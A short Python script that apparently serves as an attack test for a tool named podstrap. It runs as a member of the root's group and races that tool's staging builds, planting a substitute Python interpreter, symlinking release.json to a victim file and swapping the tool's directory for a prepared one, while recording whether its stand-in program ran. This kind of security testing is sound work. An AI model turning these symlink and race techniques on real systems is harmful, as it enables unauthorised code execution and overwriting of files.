"""A member of the root's group: tries to make podstrap run its program and write through its links."""
import glob, os, re, sys, time
root, marks, victim = sys.argv[1:4]
own, evil = root + "/.podstrap", root + "/.evil"
program = "#!/bin/sh\nid -u >>%s/ran\n" % marks

def builds():
    found = set()
    for line in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            found.update(re.findall(rb"\.podstrap/staging/([a-z0-9]{12})", open(line, "rb").read()))
        except OSError:
            pass
    return [name.decode() for name in found]

def attempt(action, *args):
    try:
        action(*args)
        return True
    except OSError:
        return False

def write(path, text):
    attempt(os.makedirs, os.path.dirname(path))
    try:
        with open(path, "w") as file:
            file.write(text)
        os.chmod(path, 0o755)
    except OSError:
        pass

round = 0
while True:
    round += 1
    for name in builds():
        # Directly, in podstrap's directory.
        for below in ("venv", "release", "scratch", "release/release.json"):
            attempt(os.rename, f"{own}/staging/{name}/{below}", f"{own}/staging/{name}/gone")
        write(f"{own}/staging/{name}/venv/bin/python", program)
        attempt(os.symlink, victim, f"{own}/staging/{name}/release/release.json")
        attempt(os.symlink, victim, f"{own}/releases/linked")
        # With another directory in its place.
        write(f"{evil}/staging/{name}/venv/bin/python", program)
        write(f"{evil}/staging/{name}/venv/bin/python3", program)
        attempt(os.makedirs, f"{evil}/staging/{name}/release/tree")
        attempt(os.makedirs, f"{evil}/staging/{name}/scratch")
        attempt(os.symlink, victim, f"{evil}/staging/{name}/release/release.json")
        moved = f"{root}/.moved{round}"
        if attempt(os.rename, own, moved):
            if attempt(os.rename, evil, own):
                open(f"{marks}/renamed", "a").close()
                time.sleep(0.002 * (round % 20))
                attempt(os.rename, own, evil)
            attempt(os.rename, moved, own)
    open(f"{marks}/rounds", "a").write(".")
